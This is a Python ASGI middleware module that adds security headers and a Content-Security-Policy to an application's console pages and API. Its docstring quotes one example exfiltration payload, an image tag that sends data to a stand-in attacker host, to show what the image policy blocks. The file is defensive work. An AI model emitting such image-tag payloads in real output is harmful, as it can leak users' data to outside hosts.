"""Security headers on every response of the full application: the console's pages and the API alike.

Every response gets `X-Content-Type-Options: nosniff` and a `Referrer-Policy`, and in production
(`MINDROUTER_ENV=production`) `Strict-Transport-Security`. HTML pages also get a Content-Security-Policy and
`X-Frame-Options: DENY` (no other site may frame the console: clickjacking).

The policy is what NiceGUI and Plotly need, and no more (checked in headless Chromium by
tests/browser/test_security_headers.py):
- scripts and styles from this site, plus inline ones: NiceGUI writes each page's elements and its Vue
  set-up into inline scripts, and Quasar, Tailwind's browser build and Plotly insert `<style>` elements;
- `'unsafe-eval'`: NiceGUI's components are Vue templates compiled in the browser (`new Function`);
- images from this site and `data:` only, so no page can be made to fetch a remote image (a model's answer
  with `<img src="https://attacker/?d=...">` leaks nothing); fonts from this site;
- connections (NiceGUI's Socket.IO, long-polling and websocket) to this site only;
- no framing (`frame-ancestors 'none'`), no plugins, `<base>` and form targets on this site only.
FastAPI's `/docs` and `/redoc` load their scripts from a CDN and get that CDN added.

The inference routes never reach this middleware (app/hotpath.py answers them first and adds `nosniff`
itself, once per response); nor do the console's in-process calls to the API (app/loopback.py), whose
responses never reach a browser. Others pay one header scan per response, nothing per streamed chunk
beyond one call.
"""

from __future__ import annotations

from starlette.types import ASGIApp, Message, Receive, Scope, Send

from app.deps import LOOPBACK_KEY_DIGEST

NOSNIFF = (b'x-content-type-options', b'nosniff')
REFERRER_POLICY = (b'referrer-policy', b'strict-origin-when-cross-origin')  # the path never leaves the site
HSTS = (b'strict-transport-security', b'max-age=31536000')  # a year; no includeSubDomains: not our call

_SELF_AND_INLINE = "'self' 'unsafe-inline'"
CONSOLE_POLICY = '; '.join((
    "default-src 'self'",
    f"script-src {_SELF_AND_INLINE} 'unsafe-eval'",
    f'style-src {_SELF_AND_INLINE}',
    "img-src 'self' data:",
    "font-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
))
_CDN = 'https://cdn.jsdelivr.net'
DOCS_POLICY = '; '.join((
    "default-src 'self'",
    f'script-src {_SELF_AND_INLINE} {_CDN}',
    f'style-src {_SELF_AND_INLINE} {_CDN} https://fonts.googleapis.com',
    "img-src 'self' data: https://fastapi.tiangolo.com https://cdn.redoc.ly",
    "font-src 'self' https://fonts.gstatic.com",
    "worker-src 'self' blob:",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "frame-ancestors 'none'",
))
_DOCS_PATHS = frozenset({'/docs', '/docs/oauth2-redirect', '/redoc'})


class SecurityHeaders:
    def __init__(self, app: ASGIApp, *, production: bool) -> None:
        self.app = app
        self._every = [NOSNIFF, REFERRER_POLICY, *([HSTS] if production else [])]
        self._page = [(b'content-security-policy', CONSOLE_POLICY.encode()), (b'x-frame-options', b'DENY')]
        self._docs_page = [(b'content-security-policy', DOCS_POLICY.encode()), (b'x-frame-options', b'DENY')]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope['type'] != 'http' or LOOPBACK_KEY_DIGEST in scope:
            await self.app(scope, receive, send)
            return
        page_headers = self._docs_page if scope['path'] in _DOCS_PATHS else self._page

        async def send_with_headers(message: Message) -> None:
            if message['type'] == 'http.response.start':
                headers = list(message.get('headers', ()))
                present = {name.lower() for name, _ in headers}
                html = any(name.lower() == b'content-type' and value.startswith(b'text/html')
                           for name, value in headers)
                added = self._every + page_headers if html else self._every
                headers += [header for header in added if header[0] not in present]  # a route's own choice wins
                message = {**message, 'headers': headers}
            await send(message)

        await self.app(scope, receive, send_with_headers)
